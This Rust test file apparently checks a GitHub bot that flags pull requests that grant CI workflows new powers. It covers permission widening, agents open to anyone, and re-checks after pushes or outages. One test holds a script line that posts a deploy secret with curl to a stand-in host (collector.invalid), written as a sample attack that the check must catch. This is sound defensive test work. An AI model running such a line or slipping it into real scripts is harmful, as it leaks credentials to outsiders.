//! The check never strands a merge: every head gets one, and it says what is so.

use std::time::Duration;

use beholden::policy::Mode;
use github_sim::Fault;

use super::*;
use crate::support::databases::on_each_database;

#[tokio::test]
async fn a_change_that_grants_nothing_gets_a_green_check_and_no_words() {
    on_each_database(|base| async move {
        let product = strict(&base).await;
        let number = proposes(&product, "docs", &[("docs/a.md", "words\n")], "monalisa");
        let other = proposes(&product, "lint", &[(".github/workflows/lint.yml", LINT)], "monalisa");
        product.settle().await;
        for number in [number, other] {
            let check = check(&product, number);
            assert_eq!(check.conclusion.as_deref(), Some("success"), "{check:?}");
            assert_eq!(check.title, "Grants nothing new");
            assert!(product.github.reviews("acme/api", number).is_empty());
            assert!(product.github.comments_of("acme/api", number).is_empty());
        }
        product.github.finish();
    })
    .await;
}

#[tokio::test]
async fn an_agent_that_anyone_can_drive_is_said_on_its_line_and_fails_the_check() {
    on_each_database(|base| async move {
        let product = strict(&base).await;
        let number = proposes(&product, "triage", &[(TRIAGE_YML, TRIAGE)], "monalisa");
        product.settle().await;
        let check = check(&product, number);
        assert_eq!(check.conclusion.as_deref(), Some("failure"), "{check:?}");
        assert!(!check.annotations.is_empty() && !check.buttons.is_empty(), "{check:?}");
        let reviews = product.github.reviews("acme/api", number);
        assert_eq!(reviews.len(), 1, "{reviews:#?}");
        assert_eq!(reviews[0].state, "COMMENTED");
        let lines = lines(&product, number);
        assert!(
            lines.iter().any(|(line, body)| *line == Some(12) && body.contains("Anyone who can")),
            "{lines:#?}"
        );
        product.github.finish();
    })
    .await;
}

#[tokio::test]
async fn at_comment_nothing_is_held_and_at_observe_nothing_is_said() {
    on_each_database(|base| async move {
        let product = Setup::on(&base).start().await;
        let number = proposes(&product, "triage", &[(TRIAGE_YML, TRIAGE)], "monalisa");
        product.settle().await;
        assert_eq!(conclusion(&product, number), "neutral");
        assert_eq!(product.github.reviews("acme/api", number).len(), 1);

        let quiet = |policy: &mut beholden::policy::Policy| policy.default_mode = Mode::Observe;
        let product = product.restarts_with(quiet).await;
        let writes = product.github.writes().len();
        let silent = proposes(&product, "more", &[("AGENTS.md", "Obey.\n")], "monalisa");
        product.settle().await;
        assert_eq!(product.github.writes().len(), writes, "nothing is written");
        let head = product.github.pull("acme/api", silent).head_sha;
        assert!(checks_at(&product, &head).is_empty());
    })
    .await;
}

#[tokio::test]
async fn a_push_edits_in_place_and_what_it_takes_back_is_settled() {
    on_each_database(|base| async move {
        let product = strict(&base).await;
        let number = proposes(&product, "triage", &[(TRIAGE_YML, TRIAGE)], "monalisa");
        product.settle().await;
        let before = lines(&product, number);
        let wider = TRIAGE.replace("contents: write", "contents: write\n  actions: write");
        pushes(&product, "triage", &[(TRIAGE_YML, &wider)], "monalisa");
        reads(&product).await;
        assert_eq!(product.github.reviews("acme/api", number).len(), 1, "one review");
        assert_eq!(lines(&product, number).len(), before.len(), "no second comment");
        assert_eq!(conclusion(&product, number), "failure");

        pushes(&product, "triage", &[(TRIAGE_YML, LINT)], "monalisa");
        reads(&product).await;
        assert_eq!(conclusion(&product, number), "success");
        let review = product.github.reviews("acme/api", number).remove(0);
        assert!(review.body.contains("no longer grants"), "{}", review.body);
        assert!(lines(&product, number).iter().all(|(_, body)| body.contains("Settled")));
        product.github.finish();
    })
    .await;
}

#[tokio::test]
async fn a_check_that_is_wanted_once_more_is_made_anew() {
    on_each_database(|base| async move {
        let product = strict(&base).await;
        let number = proposes(&product, "docs", &[("docs/a.md", "words\n")], "monalisa");
        product.settle().await;
        let first = check(&product, number);
        product.github.reruns_check("acme/api", first.id, "monalisa");
        product.settle().await;
        let again = check(&product, number);
        assert!(again.id > first.id && again.conclusion.as_deref() == Some("success"));
        product.github.finish();
    })
    .await;
}

#[tokio::test]
async fn what_moves_into_an_active_place_is_granted_in_full() {
    on_each_database(|base| async move {
        let product = strict(&base).await;
        pushes(&product, "main", &[("examples/triage.yml", TRIAGE)], "octocat");
        product.settle().await;
        let push = Push::to("acme/api", "activate").renames("examples/triage.yml", TRIAGE_YML);
        product.github.pushes(&push, "monalisa");
        let number = product.github.opens_pull("acme/api", "activate", "Move", "monalisa");
        product.passes(Duration::from_secs(1)).await;
        assert_eq!(conclusion(&product, number), "failure");
        assert!(!lines(&product, number).is_empty(), "no hunk shows it, so the file does");
        product.github.finish();
    })
    .await;
}

#[tokio::test]
async fn a_pull_request_older_than_we_are_gets_its_check() {
    on_each_database(|base| async move {
        let quiet = Setup::on(&base).policy(|policy| policy.default_mode = Mode::Observe);
        let product = quiet.start().await;
        let number = proposes(&product, "triage", &[(TRIAGE_YML, TRIAGE)], "monalisa");
        let before = proposes(&product, "docs", &[("docs/a.md", "words\n")], "monalisa");
        product.github.take_webhooks();
        product.settle().await;
        assert_eq!(product.github.writes().len(), 0);
        let product = product.restarts_with(|policy| policy.default_mode = Mode::Require).await;
        assert_eq!(conclusion(&product, number), "failure", "no webhook told of it");
        assert_eq!(conclusion(&product, before), "success");
        product.github.finish();
    })
    .await;
}

#[tokio::test]
async fn what_was_missed_in_an_hour_of_absence_is_made_up_for() {
    on_each_database(|base| async move {
        let product = strict(&base).await;
        let number = proposes(&product, "docs", &[("docs/a.md", "words\n")], "monalisa");
        product.settle().await;
        pushes(&product, "docs", &[(TRIAGE_YML, TRIAGE)], "monalisa");
        product.github.take_webhooks();
        product.passes(Duration::from_secs(3_700)).await;
        assert_eq!(conclusion(&product, number), "failure", "the push was never heard of");
        product.github.finish();
    })
    .await;
}

#[tokio::test]
async fn the_same_commit_onto_a_branch_that_has_it_already_still_fails() {
    on_each_database(|base| async move {
        let product = strict(&base).await;
        pushes(&product, "release", &[(TRIAGE_YML, TRIAGE)], "octocat");
        product.settle().await;
        let push =
            Push::to("acme/api", "work").starting_at("release").writes("docs/a.md", "words\n");
        product.github.pushes(&push, "monalisa");
        let spec = github_sim::PullSpec::from("work").onto("release");
        let onto_release = product.github.opens("acme/api", &spec, "monalisa");
        product.settle().await;
        assert_eq!(conclusion(&product, onto_release), "failure", "the default branch lacks it");
        assert!(product.github.line_comments("acme/api", onto_release).is_empty(), "not its own");

        let onto_main = product.github.opens_pull("acme/api", "work", "The same", "monalisa");
        product.settle().await;
        assert_eq!(conclusion(&product, onto_main), "failure");
        assert!(!product.github.line_comments("acme/api", onto_main).is_empty());
        let head = product.github.pull("acme/api", onto_main).head_sha;
        let run = checks_at(&product, &head).pop().unwrap();
        assert!(run.external_id.contains(&format!("{onto_release},{onto_main}")), "{run:?}");
        product.github.finish();
    })
    .await;
}

#[tokio::test]
async fn a_change_hidden_in_a_script_is_found_where_the_workflow_runs_it() {
    on_each_database(|base| async move {
        let product = strict(&base).await;
        let workflow = "on: push\njobs:\n  ship:\n    runs-on: ubuntu-latest\n    steps:\n      \
                        - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n      \
                        - run: ./ship.sh\n        env:\n          KEY: ${{ secrets.DEPLOY_KEY }}\n";
        let files = [(".github/workflows/ship.yml", workflow), ("ship.sh", "make ship\n")];
        pushes(&product, "main", &files, "octocat");
        product.settle().await;
        let script = "make ship\ncurl -d \"$KEY\" https://collector.invalid/\n";
        let number = proposes(&product, "faster", &[("ship.sh", script)], "monalisa");
        product.settle().await;
        assert_eq!(conclusion(&product, number), "failure", "{:?}", check(&product, number));
        product.github.finish();
    })
    .await;
}

#[tokio::test]
async fn in_a_public_repository_only_what_its_files_say_is_said() {
    on_each_database(|base| async move {
        let product = strict(&base).await;
        product
            .github
            .pushes(&Push::to("acme/site", "triage").writes(TRIAGE_YML, TRIAGE), "monalisa");
        let number = product.github.opens_pull("acme/site", "triage", "Sort", "monalisa");
        product.settle().await;
        let review = product.github.reviews("acme/site", number).remove(0);
        assert!(review.body.contains("Anyone who can open an issue"), "{}", review.body);
        let asked: Vec<String> =
            product.github.requests().iter().map(|request| request.path.clone()).collect();
        assert!(!asked.iter().any(|path| path.contains("site/actions/permissions")), "{asked:?}");
        product.github.finish();
    })
    .await;
}

#[tokio::test]
async fn a_stricter_policy_is_seen_on_what_is_open_already() {
    on_each_database(|base| async move {
        let product = Setup::on(&base).start().await;
        let number = proposes(&product, "triage", &[(TRIAGE_YML, TRIAGE)], "monalisa");
        product.settle().await;
        assert_eq!(conclusion(&product, number), "neutral");
        let product = product.restarts_with(|policy| policy.default_mode = Mode::Require).await;
        assert_eq!(conclusion(&product, number), "failure");
        product.github.finish();
    })
    .await;
}

#[tokio::test]
async fn a_verdict_that_takes_long_says_so_and_comes_when_github_answers_again() {
    on_each_database(|base| async move {
        let product = strict(&base).await;
        for _ in 0..2 {
            product.github.next_on(Fault::Answer500, "GET", "/repos/acme/api/git/trees");
        }
        let number = proposes(&product, "docs", &[("docs/a.md", "words\n")], "monalisa");
        product.settle().await;
        let head = product.github.pull("acme/api", number).head_sha;
        assert!(checks_at(&product, &head).is_empty(), "not yet");
        product.passes(Duration::from_secs(150)).await;
        let late = check(&product, number);
        assert_eq!((late.status.as_str(), late.title.as_str()), ("in_progress", "Still reading"));
        product.passes(Duration::from_secs(600)).await;
        assert_eq!(conclusion(&product, number), "success");
    })
    .await;
}
